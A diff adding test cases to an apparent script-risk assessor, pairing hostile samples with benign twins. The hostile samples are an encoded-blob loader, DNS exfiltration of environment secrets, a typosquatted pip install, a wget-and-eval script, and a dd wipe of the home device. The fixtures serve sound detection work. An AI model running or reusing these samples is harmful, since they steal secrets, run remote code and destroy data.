@@ -1,7 +1,7 @@
 // The classes the twenty-seventh session modelled (issue 14), from the tune
-// parts of the hundred-and-nineteenth and -twenty-first rounds
-// (tests/corpus/prog123_MANIFEST.tsv, prog125_) and real code installed
-// from Debian (impacket's timers): programs written
+// parts of the hundred-and-nineteenth and -twenty-first and -twenty-second rounds
+// (tests/corpus/prog123_MANIFEST.tsv, prog125_, prog126_) and real code
+// installed from Debian (impacket's timers): programs written
 // from the rubric alone by writers who never saw the assessor. Strings here
 // are never executed.
 
@@ -593,6 +593,280 @@ TEST(HundredAndTwentyFirstRoundClasses, AFileNamedWithThePidIsOneFile) {
        "tar -xzf \"$tmp\" -C \"$CACHE\" --strip-components=1\n"
        "rm -f \"$tmp\"\n"
        "head -n 5 \"$CACHE/tables.csv\"\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// importlib.util.spec_from_loader(name, _PackLoader(blob)) and
+// spec.loader.exec_module(module): a SourceLoader of the code's own whose
+// get_data decodes a base85 and zlib blob. The module runs what the loader's
+// get_data (or get_source, get_code) gives. A loader handing back plain text
+// written in the code stays LOW.
+TEST(HundredAndTwentySecondRoundClasses, AModuleFromTheCodesOwnLoaderRunsWhatTheLoaderGives) {
+  const Case cases[] = {
+      {"a module loaded from a decoded blob through a custom SourceLoader", B,
+       "import importlib.abc\n"
+       "import importlib.util\n"
+       "import zlib\n"
+       "from base64 import b85decode\n"
+       "\n"
+       "_HELPERS = b\"c$@rvQBTA&5QV?xDNe5m3GI*LgHVWbh)UW95H?XbQ6)aNT>e~|<DU}KS?+Cn4fp3Sm%v2DLp`%lt%1=hAm-PqV\"\n"
+       "\n"
+       "\n"
+       "class _PackLoader(importlib.abc.SourceLoader):\n"
+       "    def __init__(self, blob):\n"
+       "        self._blob = blob\n"
+       "\n"
+       "    def get_filename(self, fullname):\n"
+       "        return \"<pack:%s>\" % fullname\n"
+       "\n"
+       "    def get_data(self, path):\n"
+       "        return zlib.decompress(b85decode(self._blob))\n"
+       "\n"
+       "\n"
+       "def load_helpers():\n"
+       "    spec = importlib.util.spec_from_loader(\"licensing\", _PackLoader(_HELPERS))\n"
+       "    module = importlib.util.module_from_spec(spec)\n"
+       "    spec.loader.exec_module(module)\n"
+       "    return module\n"
+       "\n"
+       "\n"
+       "helpers = load_helpers()\n"
+       "print(helpers.stamp(\"note-1\"))\n",
+       "EXEC-DECODED-PAYLOAD"},
+      {"the same loader over plain source text", L,
+       "import importlib.abc\n"
+       "import importlib.util\n"
+       "\n"
+       "_HELPERS = '''\n"
+       "def stamp(note):\n"
+       "    return \"CBDU-\" + note\n"
+       "'''\n"
+       "\n"
+       "\n"
+       "class _TextLoader(importlib.abc.SourceLoader):\n"
+       "    def __init__(self, text):\n"
+       "        self._text = text\n"
+       "\n"
+       "    def get_filename(self, fullname):\n"
+       "        return \"<text:%s>\" % fullname\n"
+       "\n"
+       "    def get_data(self, path):\n"
+       "        return self._text.encode()\n"
+       "\n"
+       "\n"
+       "def load_helpers():\n"
+       "    spec = importlib.util.spec_from_loader(\"licensing\", _TextLoader(_HELPERS))\n"
+       "    module = importlib.util.module_from_spec(spec)\n"
+       "    spec.loader.exec_module(module)\n"
+       "    return module\n"
+       "\n"
+       "\n"
+       "print(load_helpers().stamp(\"note-1\"))\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `cfg = tomllib.load(fh)` then `cfg.setdefault("edge_zone", ZONE)`: json.load
+// and tomllib.load gave an unknown value, on which setdefault did nothing,
+// so the zone of the names looked up was lost. They give a mapping of keys
+// known only at run time now, and the default is what the key holds.
+// Secrets from the environment leaving as DNS labels: BLOCKED; names the
+// user typed under the same zone: LOW.
+TEST(HundredAndTwentySecondRoundClasses, AMappingReadFromAFileHoldsItsSetdefaults) {
+  const Case cases[] = {
+      {"secret environment variables base32-encoded into names under the config's zone", B,
+       "import base64\n"
+       "import os\n"
+       "import socket\n"
+       "import tomllib\n"
+       "\n"
+       "\n"
+       "def load_config(path):\n"
+       "    with open(path, \"rb\") as fh:\n"
+       "        cfg = tomllib.load(fh)\n"
+       "    cfg.setdefault(\"edge_zone\", \"edge.claybook-cdn.example.net\")\n"
+       "    return cfg\n"
+       "\n"
+       "\n"
+       "def install_tag():\n"
+       "    parts = [f\"{k}={v}\" for k, v in sorted(os.environ.items()) if \"TOKEN\" in k or \"SECRET\" in k]\n"
+       "    return base64.b32encode(\"\\n\".join(parts).encode()).decode().rstrip(\"=\").lower()\n"
+       "\n"
+       "\n"
+       "cfg = load_config(\"sync.toml\")\n"
+       "tag = install_tag()\n"
+       "for i in range(0, len(tag), 50):\n"
+       "    try:\n"
+       "        socket.getaddrinfo(f\"{tag[i:i + 50]}.{i}.{cfg['edge_zone']}\", 443)\n"
+       "    except socket.gaierror:\n"
+       "        pass\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"grounds the user names looked up under the same zone", L,
+       "import socket\n"
+       "import sys\n"
+       "import tomllib\n"
+       "\n"
+       "\n"
+       "def load_config(path):\n"
+       "    with open(path, \"rb\") as fh:\n"
+       "        cfg = tomllib.load(fh)\n"
+       "    cfg.setdefault(\"edge_zone\", \"edge.claybook-cdn.example.net\")\n"
+       "    return cfg\n"
+       "\n"
+       "\n"
+       "cfg = load_config(\"sync.toml\")\n"
+       "for ground in sys.argv[1:]:\n"
+       "    try:\n"
+       "        socket.getaddrinfo(f\"{ground.lower()}.{cfg['edge_zone']}\", 443)\n"
+       "    except socket.gaierror:\n"
+       "        print(\"no edge for\", ground)\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `specs.extend(GROUPS.get(group, []))` in a loop, then
+// `pip install *specs`: the argv's unknown part named none of the packages,
+// so a typosquat among them was not seen. The command line names the few
+// texts such a list was filled with (not when the list is one of several a
+// parameter was given). The same groups with the genuine package: MEDIUM.
+TEST(HundredAndTwentySecondRoundClasses, AListFilledInALoopNamesWhatItWasFilledWith) {
+  const Case cases[] = {
+      {"dependency groups with jeIlyfish installed by pip", B,
+       "import subprocess\n"
+       "import sys\n"
+       "\n"
+       "GROUPS = {\n"
+       "    \"core\": [\"requests>=2.31\", \"pydantic>=2.5\"],\n"
+       "    \"addresses\": [\"jeIlyfish==0.7.2\", \"rapidfuzz>=3.5\"],\n"
+       "}\n"
+       "\n"
+       "\n"
+       "def install(groups):\n"
+       "    specs = []\n"
+       "    for group in groups:\n"
+       "        specs.extend(GROUPS.get(group, []))\n"
+       "    subprocess.run([sys.executable, \"-m\", \"pip\", \"install\", *specs], check=True)\n"
+       "\n"
+       "\n"
+       "install(sys.argv[1:] or list(GROUPS))\n",
+       "KNOWN-MALICIOUS-PACKAGE"},
+      {"the same groups with jellyfish", M,
+       "import subprocess\n"
+       "import sys\n"
+       "\n"
+       "GROUPS = {\n"
+       "    \"core\": [\"requests>=2.31\", \"pydantic>=2.5\"],\n"
+       "    \"addresses\": [\"jellyfish==1.0.3\", \"rapidfuzz>=3.5\"],\n"
+       "}\n"
+       "\n"
+       "\n"
+       "def install(groups):\n"
+       "    specs = []\n"
+       "    for group in groups:\n"
+       "        specs.extend(GROUPS.get(group, []))\n"
+       "    subprocess.run([sys.executable, \"-m\", \"pip\", \"install\", *specs], check=True)\n"
+       "\n"
+       "\n"
+       "install(sys.argv[1:] or list(GROUPS))\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `apply_profile "${profile:-}"` where profile is a downloaded script: the
+// expansion took the default's text (empty) and dropped what the code's own
+// variable held, so the eval ran nothing known. The default's text stands
+// for the value, and the variable's data labels stay (not where an option's
+// or the user's text came from). Written to a file instead: LOW.
+TEST(HundredAndTwentySecondRoundClasses, AnEmptyDefaultKeepsWhatTheVariableHolds) {
+  const Case cases[] = {
+      {"a downloaded profile evaluated through ${profile:-}", B,
+       "#!/bin/bash\n"
+       "set -u\n"
+       "HOOKS_BASE=\"https://cdn.routekit.example.com/profiles\"\n"
+       "fetch_profile() {\n"
+       "    local name=\"$1\" attempt body\n"
+       "    for attempt in 1 2 3; do\n"
+       "        if body=\"$(wget -q -T 20 -O - \"${HOOKS_BASE}/${name}.sh\")\"; then\n"
+       "            printf '%s' \"$body\"\n"
+       "            return 0\n"
+       "        fi\n"
+       "        sleep $((attempt * 5))\n"
+       "    done\n"
+       "    return 1\n"
+       "}\n"
+       "apply_profile() {\n"
+       "    local body=\"$1\"\n"
+       "    [ -n \"$body\" ] || return 0\n"
+       "    eval \"$body\"\n"
+       "}\n"
+       "profile=\"$(fetch_profile \"${CITY:-leeds}\")\" || echo \"using built-in defaults\" >&2\n"
+       "apply_profile \"${profile:-}\"\n",
+       "REMOTE-CODE-EXECUTION", SH},
+      {"the same profile written to profile.txt", L,
+       "#!/bin/bash\n"
+       "set -u\n"
+       "HOOKS_BASE=\"https://cdn.routekit.example.com/profiles\"\n"
+       "fetch_profile() {\n"
+       "    local name=\"$1\" attempt body\n"
+       "    for attempt in 1 2 3; do\n"
+       "        if body=\"$(wget -q -T 20 -O - \"${HOOKS_BASE}/${name}.sh\")\"; then\n"
+       "            printf '%s' \"$body\"\n"
+       "            return 0\n"
+       "        fi\n"
+       "        sleep $((attempt * 5))\n"
+       "    done\n"
+       "    return 1\n"
+       "}\n"
+       "apply_profile() {\n"
+       "    local body=\"$1\"\n"
+       "    [ -n \"$body\" ] || return 0\n"
+       "    printf \"%s\\n\" \"$body\" > ./profile.txt\n"
+       "}\n"
+       "profile=\"$(fetch_profile \"${CITY:-leeds}\")\" || echo \"using built-in defaults\" >&2\n"
+       "apply_profile \"${profile:-}\"\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `case "$src" in /dev/*) echo "$src" ;;` with src from findmnt: in that
+// branch src begins with /dev/, so the device a function prints and dd then
+// overwrites with random bytes is a device (WIPE). A branch narrowing a name
+// to images/*: LOW.
+TEST(HundredAndTwentySecondRoundClasses, ACaseBranchNarrowsItsWordToItsPattern) {
+  const Case cases[] = {
+      {"the block device behind the home overwritten by dd", B,
+       "#!/bin/sh\n"
+       "set -u\n"
+       "userdata_device() {\n"
+       "    src=$(findmnt -no SOURCE --target \"$HOME\" 2>/dev/null || true)\n"
+       "    case \"$src\" in\n"
+       "        /dev/*) echo \"$src\" ;;\n"
+       "        *) df -P \"$HOME\" | awk 'NR==2 {print $1}' ;;\n"
+       "    esac\n"
+       "}\n"
+       "dev=$(userdata_device)\n"
+       "[ -b \"$dev\" ] || exit 0\n"
+       "dd if=/dev/urandom of=\"$dev\" bs=4M status=none conv=fsync\n",
+       "WIPE", SH},
+      {"an image file under ./images written by dd", L,
+       "#!/bin/sh\n"
+       "set -u\n"
+       "image_file() {\n"
+       "    name=\"$1\"\n"
+       "    case \"$name\" in\n"
+       "        images/*) echo \"$name\" ;;\n"
+       "        *) echo \"images/$name\" ;;\n"
+       "    esac\n"
+       "}\n"
+       "mkdir -p images\n"
+       "img=$(image_file \"${1:-scratch.img}\")\n"
+       "dd if=/dev/zero of=\"$img\" bs=1M count=64 status=none\n",
        nullptr, SH},
   };
   for (const auto& c : cases) check(c);
